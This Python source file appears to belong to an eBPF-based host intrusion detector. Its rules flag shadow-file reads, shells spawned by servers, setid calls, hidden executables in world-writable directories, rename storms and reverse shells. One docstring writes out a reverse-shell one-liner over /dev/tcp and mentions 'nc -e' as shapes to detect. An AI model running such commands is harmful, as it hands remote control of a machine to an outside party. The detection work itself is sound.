"""High-signal behaviour rules, independent of the model, on the kernel's behaviour events
(bpf/sc_watch.bpf.c, ring sc_events). Each hit names its rule. What a program did during the
host learning period is its normal (recorded as a profile flag) and no longer fires for it."""
from __future__ import annotations

import os
from collections import deque

import numpy as np

from kernelpilot.security.procinfo import ProcTable
from kernelpilot.security.profiles import LiveProfiles

EV_EXEC, EV_EXIT, EV_SHADOW, EV_SERVER, EV_SETID, EV_SETID_FILE, EV_RENAME, EV_FORK, EV_CONNECT = range(1, 10)
EVENT_DTYPE = np.dtype([("ts", "<u8"), ("cgroup", "<u8"), ("arg2", "<u8"), ("tid", "<u4"), ("tgid", "<u4"),
                        ("ppid", "<u4"), ("uid", "<u4"), ("kind", "<u4"), ("arg", "<u4"), ("comm", "S16"),
                        ("path", "S128"), ("path2", "S128"), ("args", "u1", 256)])  # struct sc_event
RULES = ("shadow_read", "shell_from_server", "setid_process", "setid_file", "rename_storm", "cpu_burn", "hidden_exec",
         "connect_burst", "socket_shell")
WRITABLE = ("/tmp/", "/var/tmp/", "/dev/shm/")  # world-writable: where droppers put what they run
SHELLS = {"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "csh", "tcsh"}
# programs whose job is to check passwords (PAM helpers, login services)
SHADOW_READERS = {"unix_chkpwd", "sudo", "su", "login", "sshd", "sshd-session", "passwd", "chage"}
SETID_CALLS = {105: "setuid", 106: "setgid", 113: "setreuid", 114: "setregid", 117: "setresuid",
               119: "setresgid", 122: "setfsuid", 123: "setfsgid", 126: "capset"}
FILE_CALLS = {90: "chmod", 91: "fchmod", 268: "fchmodat", 452: "fchmodat2", 188: "setxattr",
              189: "lsetxattr", 190: "fsetxattr"}
SERVER_DEPTH = 4            # a shell this many processes below a server counts as spawned by it
STORM_S, STORM_RENAMES, STORM_WRITES = 5.0, 20, 20  # renames and writes by one thread in STORM_S
CONN_BURST = 16  # TCP connects by one thread to one address and port that make a burst (SC_CONN_BURST in sc_watch.h)


def _s(b: bytes) -> str:
    return b.split(b"\0", 1)[0].decode(errors="replace")


def hidden_in_writable(path: str) -> bool:
    if not path.startswith("/"):
        return False
    path = os.path.normpath(path)
    top = next((w for w in WRITABLE if path.startswith(w)), None)
    return top is not None and any(part.startswith(".") for part in path[len(top):].split("/"))


def argv_of(ev) -> str:
    raw = bytes(ev["args"])
    n = int(ev["arg"])  # exec events: argv's length (what follows in the slot is stale)
    return (raw[:n] if 0 < n < len(raw) else raw).rstrip(b"\0").replace(b"\0", b" ").decode(errors="replace")


class Rules:
    def __init__(self, procs: ProcTable, profiles: LiveProfiles):
        self.procs, self.profiles = procs, profiles
        self.servers: dict[int, str] = {}           # tgid -> program of processes listening/accepting on inet
        self.renames: dict[int, deque] = {}         # tid -> (ts, writes) of its recent renames
        # tgid -> (which of its fds 0-2 held an inet socket at its exec (bits); whether a shell above it
        # had its stdin on one): kept only where either is set
        self.sock_stdio: dict[int, tuple[int, bool]] = {}
        self.counts = {r: 0 for r in RULES}
        self.learn_from = None  # cgroup id -> bool: while the host learns, only these cgroups teach (None: all)

    def _fires(self, rule: str, flag: str, exe: str, ts: int, ok: bool = False, cgroup: int | None = None) -> bool:
        """Learn during the host learning period; afterwards fire unless the program's profile did it."""
        if self.profiles.host_learning(ts):
            if self.learn_from is None or cgroup is None or self.learn_from(cgroup):
                self.profiles.get(exe, ts).flags.add(flag)
            return False
        prof = self.profiles.get(exe, ts)
        if ok or flag in prof.flags:
            return False
        self.counts[rule] += 1
        return True

    def on_events(self, evs) -> list[dict]:
        hits = []
        for ev in evs:
            hits += self.on_event(ev)
        return hits

    def on_event(self, ev) -> list[dict]:
        kind, pid, ts = int(ev["kind"]), int(ev["tgid"]), int(ev["ts"])
        if kind == EV_EXEC:
            p = self.procs.exec(pid, ts, int(ev["ppid"]), int(ev["uid"]), _s(ev["comm"]), _s(ev["path"]),
                                _s(ev["path2"]), argv_of(ev))
            self.servers.pop(pid, None)  # a new program: it listens again if it is a server
            self._stdio(pid, int(ev["arg2"]) & 7, self.sock_stdio.get(pid, (0, False))[1])
            return self._shell(ev, p) + self._hidden(ev, p) + self._socket_shell(ev, p)
        if kind == EV_FORK:  # the child runs its parent's program until it execs
            self.procs.fork(pid, int(ev["arg"]), ts)
            bits, under = self.sock_stdio.get(pid, (0, False))
            self._stdio(int(ev["arg"]), bits, under or bool(bits & 1 and os.path.basename(self.procs.get(pid, ts).exe)
                                                             in SHELLS))
            return []
        if kind == EV_EXIT:
            self.procs.exit(pid, ts)
            self.servers.pop(pid, None)
            self.sock_stdio.pop(pid, None)
            return []
        p = self.procs.get(pid, ts)
        exe = p.rule_program
        if kind == EV_SERVER:
            self.servers[pid] = exe
            return []
        if kind == EV_SHADOW:
            if self._fires("shadow_read", "shadow", exe, ts, os.path.basename(p.exe) in SHADOW_READERS,
                           int(ev["cgroup"])):
                return [self._hit("shadow_read", ev, {"path": _s(ev["path"])})]
        elif kind == EV_SETID:
            if self._fires("setid_process", "setid", exe, ts, cgroup=int(ev["cgroup"])):
                return [self._hit("setid_process", ev, {"syscall": SETID_CALLS.get(int(ev["arg"]), str(ev["arg"])),
                                                         "arg": int(ev["arg2"])})]
        elif kind == EV_SETID_FILE:
            if self._fires("setid_file", "setid_file", exe, ts, cgroup=int(ev["cgroup"])):
                nr = int(ev["arg"])
                what = {"mode": oct(int(ev["arg2"]))} if nr in (90, 91, 268, 452) else {"xattr": "security.capability"}
                return [self._hit("setid_file", ev, {"syscall": FILE_CALLS.get(nr, str(nr)), "path": _s(ev["path"]),
                                                      **what})]
        elif kind == EV_RENAME:
            return self._rename(ev, exe, ts)
        elif kind == EV_CONNECT:
            if self._fires("connect_burst", "connect_burst", exe, ts, cgroup=int(ev["cgroup"])):
                return [self._hit("connect_burst", ev, {"port": int(ev["arg"]), "connects": CONN_BURST,
                                                         "seconds": round(int(ev["arg2"]) / 1e9, 3)})]
        return []

    def _stdio(self, pid: int, bits: int, under: bool) -> None:
        if bits or under:
            self.sock_stdio[pid] = (bits, under)
        else:
            self.sock_stdio.pop(pid, None)

    def _shell(self, ev, p) -> list[dict]:
        name = os.path.basename(_s(ev["path2"]) or p.exe or _s(ev["path"]))
        if name not in SHELLS and os.path.basename(p.exe) not in SHELLS:
            return []
        up = [p.pid] + [a["pid"] for a in self.procs.chain(p.pid)[:SERVER_DEPTH]]
        for i, a in enumerate(up):
            if a in self.servers:
                if self._fires("shell_from_server", "spawns_shell", self.servers[a], int(ev["ts"]),
                               cgroup=int(ev["cgroup"])):
                    return [self._hit("shell_from_server", ev, {"shell": name, "server_pid": a,
                                                                "server_program": self.servers[a], "levels_up": i})]
                return []
            if i and os.path.basename(self.procs.get(a).exe) in SHELLS:
                return []  # below another shell: that one was the spawned shell
        return []

    def _socket_shell(self, ev, p) -> list[dict]:
        """A shell started with its stdin on an inet socket (commands from the network), as the
        kernel saw its fds at exec: bash's `bash -i >& /dev/tcp/HOST/PORT 0>&1`, nc -e, a script's
        dup2 then exec, a child that inherited the socket from its parent (or one an accept put on a
        free fd 0): a reverse shell's shape. A shell that redirects a builtin to a socket (`echo x >&3`,
        `read r <&3`) starts nothing with it; the shells a reverse shell starts in turn (its .bashrc's)
        are that one shell's doing: no more alerts."""
        bits, under = self.sock_stdio.get(p.pid, (0, False))
        if not bits & 1 or under or os.path.basename(p.exe) not in SHELLS:
            return []
        if self._fires("socket_shell", "socket_shell", p.rule_program, int(ev["ts"]), cgroup=int(ev["cgroup"])):
            return [self._hit("socket_shell", ev, {"shell": os.path.basename(p.exe),
                                                    "fds": [fd for fd in range(3) if bits >> fd & 1]})]
        return []

    def _hidden(self, ev, p) -> list[dict]:
        """A hidden file (a dot name in its path) under a world-writable directory is run, as a
        binary or as an interpreter's script."""
        script = p.program[len(p.exe) + 1:] if p.program.startswith(p.exe + " ") else ""
        # the binary is the file really run (a venv's bin/python under /tmp/x/.venv is a link to the
        # system's interpreter: not a dropped file); binary and script are learned apart
        binary = p.exe if p.exe.startswith("/") else _s(ev["path"])
        for path, how in ((binary, "binary"), (script, "script")):
            if hidden_in_writable(path) and self._fires("hidden_exec", f"hidden_exec_{how}", p.rule_program,
                                                        int(ev["ts"]), cgroup=int(ev["cgroup"])):
                return [self._hit("hidden_exec", ev, {"path": os.path.normpath(path), "as": how})]
        return []

    def _rename(self, ev, exe, ts) -> list[dict]:
        q = self.renames.setdefault(int(ev["tid"]), deque())
        q.append((ts, int(ev["arg2"])))
        while q and ts - q[0][0] > STORM_S * 1e9:
            q.popleft()
        if len(q) >= STORM_RENAMES and q[-1][1] - q[0][1] >= STORM_WRITES:
            n, w = len(q), q[-1][1] - q[0][1]
            q.clear()
            if self._fires("rename_storm", "rename_storm", exe, ts, cgroup=int(ev["cgroup"])):
                return [self._hit("rename_storm", ev, {"renames": n, "writes": w, "seconds": STORM_S,
                                                        "last": f"{_s(ev['path'])} -> {_s(ev['path2'])}"})]
        return []

    def _hit(self, rule: str, ev, detail: dict) -> dict:
        return {"rule": rule, "pid": int(ev["tgid"]), "tid": int(ev["tid"]), "ts": int(ev["ts"]),
                "uid": int(ev["uid"]), "cgroup_id": int(ev["cgroup"]), "comm": _s(ev["comm"]), "detail": detail}

    def prune(self, now_ns: int) -> None:
        for tid in [t for t, q in self.renames.items() if not q or now_ns - q[-1][0] > STORM_S * 1e9]:
            del self.renames[tid]
